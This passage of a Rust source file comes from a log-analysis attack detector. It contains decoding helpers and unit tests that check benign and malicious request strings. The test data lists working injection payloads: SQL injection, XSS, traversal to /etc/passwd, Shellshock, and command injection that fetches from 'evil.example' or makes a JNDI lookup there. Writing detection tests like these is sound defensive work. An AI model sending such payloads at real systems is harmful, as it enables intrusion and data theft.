    UserAgent,
    /// A parsed referrer: a URL like the target, scanned with the same rules.
    Referrer,
    /// A whole line without a parsed target: request rules only if it looks like a request.
    Line,
}

/// Bytes of a plain path (`/images/logo-2x.png`): no injection pattern can match text made only
/// of these.
fn plain_path_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-' | b'~' | b',')
}

/// Bytes that ordinary user agents (`Mozilla/5.0 (X11; Linux x86_64) ... +http://...`) never
/// contain but injections need.
pub(super) fn suspicious_in_user_agent(b: u8) -> bool {
    matches!(
        b,
        b'\'' | b'"' | b'<' | b'>' | b'$' | b'`' | b'{' | b'|' | b'%' | b'\\' | b'=' | b'&'
    ) || !b.is_ascii()
}

/// Start of the dotted token ending at `end` (`java.lang.NullPointerException`).
fn token_start(bytes: &[u8], end: usize) -> usize {
    let mut start = end;
    while start > 0 {
        match bytes.get(start - 1) {
            Some(b) if b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$' | b'.') => start -= 1,
            _ => break,
        }
    }
    // A token does not start with a dot (`...Exception` in prose).
    while start < end && bytes.get(start) == Some(&b'.') {
        start += 1;
    }
    start
}

/// Whether a byte continues an identifier, path or file name around a keyword.
fn joins_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'/' | b'\\' | b'$' | b'@')
}

/// The extra check of a keyword match at `start..end` of `text`.
fn passes(check: Check, text: &str, start: usize, end: usize) -> bool {
    if check == Check::Any {
        return true;
    }
    let bytes = text.as_bytes();
    if start > 0 {
        if let Some(&p) = bytes.get(start - 1) {
            if joins_word(p) || p == b'.' {
                return false;
            }
        }
    }
    if let Some(&n) = bytes.get(end) {
        if joins_word(n) {
            return false;
        }
        // `error.log`, `Error.java`: a file or member name, but `an error.` is a sentence.
        if n == b'.'
            && bytes
                .get(end + 1)
                .is_some_and(|c| c.is_ascii_alphanumeric())
        {
            return false;
        }
    }
    if check == Check::Negatable {
        // `error=0`, `errors: none`, `fatal: false`
        let after = text.get(end..).unwrap_or("").trim_start();
        if let Some(value) = after.strip_prefix(['=', ':']) {
            let value = value.trim_start().trim_start_matches(['"', '\'']);
            let word: String = value
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '/' || *c == '-')
                .collect::<String>()
                .to_ascii_lowercase();
            if matches!(
                word.as_str(),
                "" | "0" | "false" | "none" | "null" | "nil" | "no" | "n/a" | "-" | "off"
            ) {
                return false;
            }
        }
        // `no error`, `0 errors`, `without error`
        let before = text.get(..start).unwrap_or("").trim_end();
        let last = before
            .rsplit(|c: char| !c.is_ascii_alphanumeric())
            .next()
            .unwrap_or("");
        if ["no", "0", "without", "zero", "non", "not"]
            .iter()
            .any(|w| w.eq_ignore_ascii_case(last))
        {
            return false;
        }
    }
    true
}

// ---------------------------------------------------------------------------------------------
// Decoding
// ---------------------------------------------------------------------------------------------

/// Decodes a request target (or any text) the way a server or browser might before it reaches
/// the application: up to three rounds of URL-decoding (`+` as space, `%uXXXX`, overlong UTF-8
/// `/` `.` `\`), HTML entities, full-width ASCII, NUL removal, and ASCII lowercasing. Returns the
/// text and whether a NUL byte was seen.
fn normalize(raw: &str) -> (String, bool) {
    let needs = raw
        .bytes()
        .any(|b| matches!(b, b'%' | b'+' | b'&' | 0) || !b.is_ascii());
    if !needs {
        return (raw.to_ascii_lowercase(), false);
    }
    let mut text = raw.to_string();
    for _ in 0..3 {
        if !text.contains(['%', '+']) {
            break;
        }
        let next = url_decode(&text);
        if next == text {
            break;
        }
        text = next;
    }
    if text.contains('&') {
        for _ in 0..2 {
            let next = html_decode(&text);
            if next == text {
                break;
            }
            text = next;
        }
        if text.contains('%') {
            text = url_decode(&text);
        }
    }
    if !text.is_ascii() {
        text = text
            .chars()
            .map(|c| match c {
                // Full-width ASCII (＜ｓｃｒｉｐｔ＞) folds to ASCII.
                '\u{FF01}'..='\u{FF5E}' => char::from_u32(c as u32 - 0xFEE0).unwrap_or(c),
                _ => c,
            })
            .collect();
    }
    let had_nul = text.contains('\0');
    if had_nul {
        text.retain(|c| c != '\0');
    }
    text.make_ascii_lowercase();
    (text, had_nul)
}

/// Value of an ASCII hex digit.
fn hex(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

/// One round of URL-decoding; invalid escapes are kept as they are.
fn url_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out: Vec<u8> = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c == b'+' {
            out.push(b' ');
            i += 1;
            continue;
        }
        if c == b'%' {
            // %uXXXX (IIS)
            if matches!(b.get(i + 1), Some(b'u' | b'U')) {
                let code = (2..6).try_fold(0u32, |acc, k| {
                    b.get(i + k)
                        .and_then(|&h| hex(h))
                        .map(|h| acc * 16 + u32::from(h))
                });
                if let Some(ch) = code.and_then(char::from_u32) {
                    let mut buf = [0u8; 4];
                    out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
                    i += 6;
                    continue;
                }
            }
            if let (Some(h), Some(l)) = (
                b.get(i + 1).and_then(|&h| hex(h)),
                b.get(i + 2).and_then(|&l| hex(l)),
            ) {
                out.push(h * 16 + l);
                i += 3;
                continue;
            }
        }
        out.push(c);
        i += 1;
    }
    // Overlong UTF-8 encodings of '/', '.' and backslash (the classic IIS/Tomcat traversal bypass).
    if !out.iter().any(|&c| matches!(c, 0xC0 | 0xC1 | 0xE0)) {
        return String::from_utf8_lossy(&out).into_owned();
    }
    let mut fixed: Vec<u8> = Vec::with_capacity(out.len());
    let mut j = 0;
    while let Some(&c) = out.get(j) {
        let (mapped, used) = match (c, out.get(j + 1), out.get(j + 2)) {
            (0xC0, Some(0xAF), _) => (b'/', 2),
            (0xC0, Some(0xAE), _) => (b'.', 2),
            (0xC1, Some(0x9C | 0x1C), _) => (b'\\', 2),
            (0xE0, Some(0x80), Some(0xAF)) => (b'/', 3),
            (0xE0, Some(0x80), Some(0xAE)) => (b'.', 3),
            _ => (c, 1),
        };
        fixed.push(mapped);
        j += used;
    }
    String::from_utf8_lossy(&fixed).into_owned()
}

/// Decodes the common HTML entities (`&lt;`, `&#60;`, `&#x3c;`, with or without `;`).
fn html_decode(s: &str) -> String {
    const NAMED: &[(&str, char)] = &[
        ("lt", '<'),
        ("gt", '>'),
        ("quot", '"'),
        ("apos", '\''),
        ("amp", '&'),
        ("colon", ':'),
        ("lpar", '('),
        ("rpar", ')'),
        ("sol", '/'),
        ("bsol", '\\'),
        ("tab", '\t'),
        ("newline", '\n'),
        ("grave", '`'),
        ("semi", ';'),
        ("equals", '='),
        ("nbsp", ' '),
    ];
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(pos) = rest.find('&') {
        out.push_str(&rest[..pos]);
        let after = &rest[pos + 1..];
        let mut decoded = None;
        if let Some(num) = after.strip_prefix('#') {
            let (digits, radix, skip) = match num.strip_prefix(['x', 'X']) {
                Some(h) => (h, 16, 2),
                None => (num, 10, 1),
            };
            let len = digits
                .bytes()
                .take(8)
                .take_while(|b| {
                    if radix == 16 {
                        b.is_ascii_hexdigit()
                    } else {
                        b.is_ascii_digit()
                    }
                })
                .count();
            if len > 0 {
                let ch = digits
                    .get(..len)
                    .and_then(|d| u32::from_str_radix(d, radix).ok())
                    .and_then(char::from_u32);
                if let Some(ch) = ch {
                    let mut used = skip + len;
                    if digits.as_bytes().get(len) == Some(&b';') {
                        used += 1;
                    }
                    decoded = Some((ch, used));
                }
            }
        } else {
            for (name, ch) in NAMED {
                let matches_name = after
                    .get(..name.len())
                    .is_some_and(|p| p.eq_ignore_ascii_case(name));
                if matches_name {
                    let mut used = name.len();
                    if after.as_bytes().get(used) == Some(&b';') {
                        used += 1;
                    }
                    decoded = Some((*ch, used));
                    break;
                }
            }
        }
        match decoded {
            Some((ch, used)) => {
                out.push(ch);
                rest = after.get(used..).unwrap_or("");
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn access<'a>(target: &'a str, ua: &'a str) -> RuleInput<'a> {
        RuleInput {
            line: target,
            content: target,
            level: None,
            http_status: Some(200),
            http_target: Some(target),
            http_user_agent: Some(ua),
            http_referrer: None,
        }
    }

    fn attack_rules(rs: &RuleSet, input: &RuleInput) -> Vec<String> {
        rs.evaluate(input)
            .into_iter()
            .filter(|h| h.rule.starts_with("attack:"))
            .map(|h| h.rule)
            .collect()
    }

    #[test]
    fn libinjection_adds_what_the_patterns_miss() {
        // sqlmap's boolean-blind payload (`1 OR NOT 5499=9785## yaon`): no pattern knows it,
        // libinjection's fingerprint does; the evidence names the detector and fingerprint.
        let rs = RuleSet::builtin();
        let hits = rs.evaluate(&access(
            "/item.php?id=1%20OR%20NOT%205499%3D9785%23%23%20yaon",
            CHROME,
        ));
        let sqli = hits
            .iter()
            .find(|h| h.rule == "attack:sqli")
            .expect("a hit");
        assert!(
            sqli.evidence.starts_with(LIBINJECTION_EVIDENCE),
            "{}",
            sqli.evidence
        );
        // Where a pattern already hit, libinjection adds no second hit of the same rule.
        let both = rs.evaluate(&access("/p?id=1+UNION+ALL+SELECT+NULL,NULL--", CHROME));
        let sqli: Vec<_> = both.iter().filter(|h| h.rule == "attack:sqli").collect();
        assert_eq!(sqli.len(), 1);
        assert!(!sqli[0].evidence.starts_with(LIBINJECTION_EVIDENCE));
    }

    fn text_rules(rs: &RuleSet, content: &str, level: Option<&str>) -> Vec<String> {
        rs.evaluate(&RuleInput {
            line: content,
            content,
            level,
            ..RuleInput::default()
        })
        .into_iter()
        .map(|h| h.rule)
        .collect()
    }

    const CHROME: &str = "Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2272.16 Safari/537.36";

    /// Ordinary request targets (many from real access logs) that must not fire.
    const BENIGN: &[&str] = &[
        "/presentations/logstash-monitorama-2013/images/redis.png",
        "/reset.css",
        "/",
        "/favicon.ico",
        "/blog/geekery/solving-good-or-bad-problems.html?utm_source=feedburner&utm_medium=feed&utm_campaign=Feed%3A+semicomplete%2Fmain+%28semicomplete.com+-+Jordan+Sissel%29",
        "/blog/tags/jquery%20mobile",
        "/scripts/?C=M;O=A",
        "/files/dynamic-dns-with-dhcp/dhcpd.conf",
        "/misc/sample.log",
        "/presentations/logstash-puppetconf-2012/lib/font/league_gothic-webfont.ttf)%20format(%22truetype%22",
        "/projects/xdotool/+++++++Result:+chosen+nickname+%22awarovadoms%22;sent;",
        "/search?q=select+comfort+mattress",
        "/products/select-a-size/union-jack-mug",
        "/search?q=union+station+chicago",
        "/search?q=o%27reilly+books",
        "/people/O'Brien",
        "/search?q=rock+and+roll+or+jazz",
        "/search?q=it%27s+a+test+and+more",
        "/docs/a--b/c",
        "/posts/2015/05/hello--world",
        "/api/v1/items?fields=name|id|email",
        "/tags/dog;cat",
        "/wiki/Exception_handling",
        "/static/js/app.min.js?v=1.2.3",
        "/login?next=%2Fdashboard%3Ftab%3Dsettings",
        "/search?q=%22exact+phrase%22",
        "/api/orders?sort=-created_at&limit=50&offset=100",
        "/calendar/2015-05-17?view=week&tz=America%2FNew_York",
        "/search?q=C%2B%2B+templates",
        "/search?q=1%3D1+math+homework",
        "/search?q=sleep+apnea&page=2",
        "/docs/javascript/guide#events",
        "/images/icons/favicon-32x32.png?v=2",
        "/share?url=https%3A%2F%2Fexample.com%2Fpost%2F42&title=Hello%20World",
        "/wiki/Kernel_panic",
        "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
        "/shop/t-shirt?color=red&size=m&qty=2",
        "/alert-settings/update",
        "/blog/2015/05/what-i-learned-from-1%25-of-users",
        "/search?q=tom%26jerry",
        "/search?q=a+%3C+b",
        "/feed?format=rss&amp;lang=en",
    ];

    /// Malicious targets and the rule each must fire.
    const MALICIOUS: &[(&str, &str)] = &[
        ("/index.php?id=1%27%20OR%20%271%27%3D%271", "attack:sqli"),
        ("/item?id=1+UNION+ALL+SELECT+NULL,NULL,concat(user(),0x3a)--", "attack:sqli"),
        ("/login?user=admin%27--&pass=x", "attack:sqli"),
        ("/p?id=1%20AND%20SLEEP(5)", "attack:sqli"),
        ("/p?id=1;WAITFOR%20DELAY%20%270:0:5%27--", "attack:sqli"),
        ("/p?id=-1/**/union/**/select/**/1,2,3", "attack:sqli"),
        ("/p?id=1%27%20and%20extractvalue(1,concat(0x7e,version()))--+", "attack:sqli"),
        ("/p?id=(select%20*%20from%20information_schema.tables)", "attack:sqli"),
        ("/p?id=1%20or%201=1", "attack:sqli"),
        ("/DVWA/dvwa/?C=-1%20AND%20((SELECT%201%20FROM%20(SELECT%202)a%20WHERE%201%3dsleep(25)))--%201", "attack:sqli"),
        ("/DVWA/dvwa/?C=1))%20WAITFOR%20DELAY%20%270%3a0%3a25%27--", "attack:sqli"),
        ("/p?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "attack:xss"),
        ("/p?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E", "attack:xss"),
        ("/p?url=javascript:alert(1)", "attack:xss"),
        ("/p?q=%22%3E%3Csvg/onload=prompt(1)%3E", "attack:xss"),
        ("/p?q=&lt;script&gt;alert(1)&lt;/script&gt;", "attack:xss"),
        ("/p?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)", "attack:xss"),
        ("/p?q=%3CScRiPt%3Ens(0x000589)%3C%2FsCrIpT%3E", "attack:xss"),
        ("/p?id=body%7bx%3aexpression(ns(0x00058E))%7d", "attack:xss"),
        ("/p?next=%0d%0aSet-Cookie:%20session=evil", "attack:xss"),
        ("/download?file=../../../../etc/passwd", "attack:traversal"),
        ("/download?file=..%2f..%2f..%2fetc%2fshadow", "attack:traversal"),
        ("/download?file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini", "attack:traversal"),
        ("/static/..%c0%af..%c0%afetc/passwd", "attack:traversal"),
        ("/page?f=....//....//etc/hosts", "attack:traversal"),
        ("/view?page=php://filter/convert.base64-encode/resource=index.php", "attack:traversal"),
        ("/index.php?file=/proc/self/environ", "attack:traversal"),
        ("/index.php?page=http://evil.example/shell.txt?", "attack:traversal"),
        ("/index.php?page=report.pdf%00.php", "attack:traversal"),
        ("/app/..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts", "attack:traversal"),
        ("/cgi-bin/test.cgi?x=%3Bcat%20%2Fetc%2Fpasswd", "attack:cmdi"),
        ("/ping?host=127.0.0.1%7Cwhoami", "attack:cmdi"),
        ("/ping?host=8.8.8.8%26%26id", "attack:cmdi"),
        ("/x?cmd=%24(wget%20http://evil.example/x.sh)", "attack:cmdi"),
        ("/x?a=%60id%60", "attack:cmdi"),
        ("/x?q=${jndi:ldap://evil.example/a}", "attack:cmdi"),
        ("/x?host=1.1.1.1;ping%20-c%203%20evil.example", "attack:cmdi"),
        ("/x?id=%3C!--%23exec%20cmd%3d%22expr%20268409241%20-%202%22--%3E", "attack:cmdi"),
        ("/x?q=;system('id');", "attack:cmdi"),
        ("/.env", "attack:probe"),
        ("/.git/config", "attack:probe"),
        ("/wp-login.php", "attack:probe"),
        ("/phpmyadmin/index.php", "attack:probe"),
        ("/uploads/shell.php", "attack:probe"),
        ("/cgi-bin/php", "attack:probe"),
        ("/backup.sql", "attack:probe"),
    ];

    #[test]
    fn all_builtin_patterns_compile() {
        let b = builtin();
        assert_eq!(b.keywords.defs.len(), KEYWORDS.len());
        assert_eq!(b.generic.defs.len(), GENERIC_KEYWORDS.len());
        assert_eq!(b.path.defs.len(), PATH_ATTACKS.len());
        assert_eq!(
            b.attacks.defs.len(),
            PATH_ATTACKS.len() + URL_ATTACKS.len() + INJECTION_ATTACKS.len()
        );
        assert_eq!(b.injection.defs.len(), INJECTION_ATTACKS.len());
        assert!(b.http_hint.is_some());
        assert_eq!(b.scanner.defs.len(), 1);
        assert_eq!(b.stack_frame.defs.len(), 1);
        assert_eq!(b.oom_upper.defs.len(), 1);
        for g in [
            &b.keywords,
            &b.generic,
            &b.path,
            &b.attacks,
            &b.injection,
            &b.scanner,
        ] {
            assert!(g.any.is_some());
            assert_eq!(g.set.len(), g.defs.len());
        }
        // Patterns run on lowercased text: an upper-case letter would never match.
        for (_, _, _, src, _) in KEYWORDS
            .iter()
            .chain(GENERIC_KEYWORDS)
            .chain(PATH_ATTACKS)
            .chain(URL_ATTACKS)
            .chain(INJECTION_ATTACKS)
        {
            let b = src.as_bytes();
            for (i, c) in b.iter().enumerate() {
                if c.is_ascii_uppercase() {
                    assert_eq!(b.get(i.wrapping_sub(1)), Some(&b'\\'), "{src}");
                }
            }
        }
    }

    #[test]
    fn benign_targets_do_not_fire() {
        let rs = RuleSet::builtin();
        for t in BENIGN {
            let hits = attack_rules(&rs, &access(t, CHROME));
            assert!(hits.is_empty(), "{t}: {hits:?}");
        }
        // Ordinary user agents, crawlers and tools.
        for ua in [
            CHROME,
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 7_0 like Mac OS X) AppleWebKit/537.51.1 (KHTML, like Gecko) Version/7.0 Mobile/11A465 Safari/9537.53",
            "Mozilla/5.0 (Linux; U; Android 4.0.3; ko-kr; LG-L160L Build/IML74K) AppleWebkit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
            "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
            "Tiny Tiny RSS/1.11 (http://tt-rss.org/)",
            "curl/7.35.0",
            "Wget/1.13.4 (linux-gnu)",
            "UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/",
            "-",
            "",
        ] {
            let hits = attack_rules(&rs, &access("/", ua));
            assert!(hits.is_empty(), "{ua}: {hits:?}");
        }
    }

    #[test]
    fn malicious_targets_fire_the_right_rule() {
        let rs = RuleSet::builtin();
        assert!(MALICIOUS.len() >= 20 && BENIGN.len() >= 20);
        for (t, rule) in MALICIOUS {
            let hits = rs.evaluate(&access(t, CHROME));
            assert!(
                hits.iter().any(|h| h.rule == *rule),
                "{t}: expected {rule}, got {hits:?}"
            );
            for h in &hits {
                assert!(h.evidence.chars().count() <= MAX_EVIDENCE_CHARS);
                assert!((0.0..=1.0).contains(&h.severity));
            }
            // At most one hit per rule name.
            let mut names: Vec<&str> = hits.iter().map(|h| h.rule.as_str()).collect();
            names.sort_unstable();
            let n = names.len();
            names.dedup();
            assert_eq!(n, names.len(), "{t}: {hits:?}");
        }
    }

    #[test]
    fn attack_categories_severities_and_evidence() {
        let rs = RuleSet::builtin();
        let hits = rs.evaluate(&access("/p?id=1%27%20OR%20%271%27%3D%271", CHROME));
        let h = hits.iter().find(|h| h.rule == "attack:sqli").unwrap();
        assert_eq!(h.category, RuleCategory::SqlInjection);
        assert_eq!(h.severity, 0.9);
        assert_eq!(h.evidence, "' or '1'=");
        let hits = rs.evaluate(&access("/.git/HEAD", CHROME));
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].rule, "attack:probe");
        assert_eq!(hits[0].severity, 0.4);
        assert_eq!(hits[0].category, RuleCategory::PathTraversal);
        let long = format!("/x?q=<script>{}</script>", "a".repeat(500));
        let hits = rs.evaluate(&access(&long, CHROME));
        assert!(hits.iter().all(|h| h.evidence.chars().count() <= 80));
    }

    #[test]
    fn user_agent_attacks() {
        let rs = RuleSet::builtin();
        for (ua, rule) in [
            ("() { :; }; /bin/bash -c 'cat /etc/passwd'", "attack:cmdi"),
            ("sqlmap/1.4.7#stable (http://sqlmap.org)", "attack:probe"),
            (
                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
                "attack:probe",
            ),
            ("${jndi:ldap://evil.example:1389/a}", "attack:cmdi"),
            ("<script>alert(1)</script>", "attack:xss"),
            ("' or 1=1 --", "attack:sqli"),
        ] {
            let hits = attack_rules(&rs, &access("/index.html", ua));
            assert!(hits.iter().any(|h| h == rule), "{ua}: {hits:?}");
        }
    }

    #[test]
    fn referrer_attacks() {
        let rs = RuleSet::builtin();
        let with_referrer = |referrer| RuleInput {
            http_referrer: Some(referrer),
            ..access("/index.html", "Mozilla/5.0 (X11; Linux x86_64)")
        };
        for (referrer, rule) in [
            ("() { :;}; echo; /bin/cat /etc/passwd", "attack:cmdi"),
            (
                "http://example.com/?q=1%27%20union%20select%20password%20from%20users--",
                "attack:sqli",
            ),
            (
                "http://example.com/%3Cscript%3Ealert(1)%3C/script%3E",
                "attack:xss",
            ),
            (
                "http://example.com/../../../../etc/passwd",
                "attack:traversal",
            ),
        ] {
            let hits = attack_rules(&rs, &with_referrer(referrer));
            assert!(hits.iter().any(|h| h == rule), "{referrer}: {hits:?}");
        }
        for referrer in [
            "http://semicomplete.com/presentations/logstash-monitorama-2013/",
            "https://www.google.com/search?q=select+a+union+for+workers&ie=utf-8&oe=utf-8",
            "https://duckduckgo.com/?q=xdotool+key+--window&t=ffab",
        ] {
            let hits = attack_rules(&rs, &with_referrer(referrer));
            assert!(hits.is_empty(), "{referrer}: {hits:?}");
        }
    }

    #[test]
    fn unparsed_lines_are_scanned_whole() {
        let rs = RuleSet::builtin();
        let line = r#"10.0.0.1 - - [17/May/2015:10:05:00 +0000] "GET /index.php?id=1%27%20union%20select%201,2-- HTTP/1.1" 200 100 "-" "Mozilla/5.0 (truncated"#;
        let hits = rs.evaluate(&RuleInput {
            line,
            content: line,
            ..RuleInput::default()
        });
        assert!(hits.iter().any(|h| h.rule == "attack:sqli"), "{hits:?}");
        let ok = r#"10.0.0.1 - - [17/May/2015:10:05:00 +0000] "GET /images/logo.png HTTP/1.1" 200 100 "-" "Mozilla/5.0 (X11; Linux x86_64) (truncated"#;
        assert!(rs
            .evaluate(&RuleInput {
                line: ok,
                content: ok,
                ..RuleInput::default()
            })
            .is_empty());
    }

    #[test]
    fn plain_app_lines_get_injection_rules_only() {
        let rs = RuleSet::builtin();
        let attacks = |line: &str| {
            rs.evaluate(&RuleInput {
                line,
                content: line,
                level: Some("INFO"),
                ..RuleInput::default()
            })
            .into_iter()
            .filter(|h| h.rule.starts_with("attack:"))
            .map(|h| h.rule)
            .collect::<Vec<_>>()
        };
        // Paths and URLs are ordinary in application logs.
        for quiet in [
            "2016-09-28 04:30:30, Info CBS Loaded Servicing Stack v6.1.7601.23505 with Core: C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack",
            "03-17 16:13:47.518  1702  8671 D ActivityManager: Skipping, withExcluded: false, tr.intent:Intent { act=android.intent.action.VIEW dat=file:///storage/emulated/0/a.jpg }",
            "make[2]: Entering directory '../build/src'; cc -o ../bin/app main.o",
            "sshd[42]: reading /etc/passwd entries for user backup.sql",
            "nmap scan scheduled by admin",
        ] {
            assert!(attacks(quiet).is_empty(), "{quiet}: {:?}", attacks(quiet));
        }
        // An application echoing refused input still trips the injection rules.
        assert_eq!(
            attacks("WARN login refused for user admin' or '1'='1"),
            vec!["attack:sqli"]
        );
        assert_eq!(
            attacks("comment rejected: <script>alert(document.cookie)</script>"),
            vec!["attack:xss"]
        );
        // A request in an unparsed line gets every rule.
        assert_eq!(
            attacks("client 10.0.0.9 sent GET /static/../../etc/passwd HTTP/1.1"),
            vec!["attack:traversal"]
        );
    }

    #[test]
    fn http_5xx() {
        let rs = RuleSet::builtin();
        for (status, fires) in [
            (200, false),
            (404, false),
            (499, false),
            (500, true),
            (503, true),
            (599, true),
            (600, false),
        ] {
            let hits = rs.evaluate(&RuleInput {
                line: "x",
                content: "x",
                http_status: Some(status),
                http_target: Some("/"),
                ..RuleInput::default()
            });
            assert_eq!(hits.iter().any(|h| h.rule == "http:5xx"), fires, "{status}");
            if fires {
                assert_eq!(hits[0].category, RuleCategory::HttpError);
                assert_eq!(hits[0].severity, 0.6);
                assert_eq!(hits[0].evidence, status.to_string());
            }
        }
    }

    #[test]
    fn levels() {
        let rs = RuleSet::builtin();
        let hit_of = |level: &str| {
            rs.evaluate(&RuleInput {
                line: "all good",
                content: "all good",
                level: Some(level),
                ..RuleInput::default()
            })
            .into_iter()
            .next()
            .map(|h| (h.rule, h.severity))
        };
        assert_eq!(hit_of("ERROR"), Some(("severity:error".into(), 0.8)));
        assert_eq!(hit_of("error"), Some(("severity:error".into(), 0.8)));
        assert_eq!(hit_of("E"), Some(("severity:error".into(), 0.8)));
        assert_eq!(hit_of("[ERR]"), Some(("severity:error".into(), 0.8)));
        assert_eq!(hit_of("FATAL"), Some(("severity:fatal".into(), 1.0)));
        assert_eq!(hit_of("F"), Some(("severity:fatal".into(), 1.0)));
        assert_eq!(hit_of("Critical"), Some(("severity:critical".into(), 1.0)));
        assert_eq!(hit_of("EMERG"), Some(("severity:emergency".into(), 1.0)));
        assert_eq!(hit_of("ALERT"), Some(("severity:alert".into(), 1.0)));
        assert_eq!(hit_of("PANIC"), Some(("severity:panic".into(), 1.0)));
        assert_eq!(hit_of("SEVERE"), Some(("severity:severe".into(), 0.9)));
        assert_eq!(hit_of("WARN"), Some(("severity:warn".into(), 0.3)));
        assert_eq!(hit_of("warning"), Some(("severity:warn".into(), 0.3)));
        assert_eq!(hit_of("W"), Some(("severity:warn".into(), 0.3)));
        for quiet in [
            "INFO", "DEBUG", "I", "D", "V", "TRACE", "NOTICE", "", "-", "ERRORS",
        ] {
            assert_eq!(hit_of(quiet), None, "{quiet}");
        }
        let h = rs.evaluate(&RuleInput {
            content: "x",
            level: Some("ERROR"),
            ..RuleInput::default()
        });
        assert_eq!(h[0].category, RuleCategory::Severity);
    }

    #[test]
    fn content_keywords() {
        let rs = RuleSet::builtin();
        let cases: &[(&str, &[&str])] = &[
            (
                "java.lang.NullPointerException: null",
                &["keyword:exception"],
            ),
            (
                "Exception in thread \"main\" java.lang.IllegalStateException",
                &["keyword:exception"],
            ),
            ("Traceback (most recent call last):", &["keyword:traceback"]),
            (
                "panic: runtime error: index out of range",
                &["keyword:panic", "keyword:error"],
            ),
            (
                "thread 'main' panicked at src/main.rs:2:5",
                &["keyword:panic"],
            ),
            (
                "Segmentation fault (core dumped)",
                &["keyword:segfault", "keyword:core_dumped"],
            ),
            (
                "java.lang.OutOfMemoryError: Java heap space",
                &["keyword:oom"],
            ),
            (
                "kernel: Out of memory: Killed process 1234 (java)",
                &["keyword:oom"],
            ),
            ("worker OOM, restarting", &["keyword:oom"]),
            ("printing stack trace:", &["keyword:stack_trace"]),
            (
                "\tat org.apache.hadoop.ipc.Server$Handler.run(Server.java:2049)",
                &["keyword:stack_frame"],
            ),
            (
                "  File \"/app/main.py\", line 12, in handler",
                &["keyword:stack_frame"],
            ),
            ("could not connect: error 111", &["keyword:error"]),
            ("FATAL: password authentication failed", &["keyword:fatal"]),
            ("request failed with an error.", &["keyword:error"]),
            // Not errors.
            ("error_count=0 warnings=2", &[]),
            ("errors=0 fatal=false", &[]),
            ("error=0", &[]),
            ("status: no error", &[]),
            ("GET /error.html 200", &[]),
            ("loaded /var/log/app/error.log", &[]),
            ("logger.error called", &[]),
            ("ROOM BOOKED", &[]),
            ("exceptional performance", &[]),
            ("on_error handler registered", &[]),
            ("onError callback set", &[]),
            ("All good: 10 requests served", &[]),
            ("", &[]),
        ];
        for (content, want) in cases {
            let got = text_rules(&rs, content, None);
            assert_eq!(&got, want, "{content:?}");
        }
        // Evidence is the original text (whole dotted token for exceptions).
        let hits = rs.evaluate(&RuleInput {
            content: "caught java.lang.NullPointerException: x",
            line: "caught java.lang.NullPointerException: x",
            ..RuleInput::default()
        });
        assert_eq!(hits[0].evidence, "java.lang.NullPointerException");
    }

    #[test]
    fn level_present_keeps_specific_keywords_only() {
        let rs = RuleSet::builtin();
        // The HDFS case: the level says WARN, the content names an exception.
        let got = text_rules(
            &rs,
            "10.251.30.6:50010:Got exception while serving blk_-2918118818249673980 to /10.251.90.64:",
            Some("WARN"),
        );
        assert_eq!(got, vec!["severity:warn", "keyword:exception"]);
        // Generic words defer to the level.
        assert!(text_rules(&rs, "retrying after error", Some("INFO")).is_empty());
        assert_eq!(
            text_rules(&rs, "retrying after error", None),
            vec!["keyword:error"]
        );
    }

    #[test]
    fn http_lines_skip_content_keywords() {
        let rs = RuleSet::builtin();
        let hits = rs.evaluate(&access("/wiki/panic?q=fatal+error+exception", CHROME));
        assert!(hits.is_empty(), "{hits:?}");
    }

    #[test]
    fn custom_rules() {
        let rs = RuleSet::new(vec![
            CustomRule {
                name: "payment_failed".into(),
                pattern: r"payment (?:failed|declined) for order \d+".into(),
                severity: 0.7,
            },
            CustomRule {
                name: "custom:disk".into(),
                pattern: "(?i)disk full".into(),
                severity: 1.0,
            },
        ])
        .unwrap();
        assert_eq!(rs.custom_rules().len(), 2);
        let line = "2024-01-01 INFO payment declined for order 42; DISK FULL";
        let hits = rs.evaluate(&RuleInput {
            line,
            content: "payment declined for order 42; DISK FULL",
            level: Some("INFO"),
            ..RuleInput::default()
        });
        let custom: Vec<_> = hits
            .iter()
            .filter(|h| h.category == RuleCategory::Custom)
            .map(|h| (h.rule.as_str(), h.severity, h.evidence.as_str()))
            .collect();
        assert_eq!(
            custom,
            vec![
                (
                    "custom:payment_failed",
                    0.7,
                    "payment declined for order 42"
                ),
                ("custom:disk", 1.0, "DISK FULL"),
            ]
        );
        assert!(RuleSet::builtin().custom_rules().is_empty());
    }

    #[test]
    fn bad_custom_rules_are_refused_by_name() {
        let rule = |name: &str, pattern: &str, severity: f32| CustomRule {
            name: name.into(),
            pattern: pattern.into(),
            severity,
        };
        for (rules, needle) in [
            (vec![rule("broken", "(unclosed", 0.5)], "broken"),
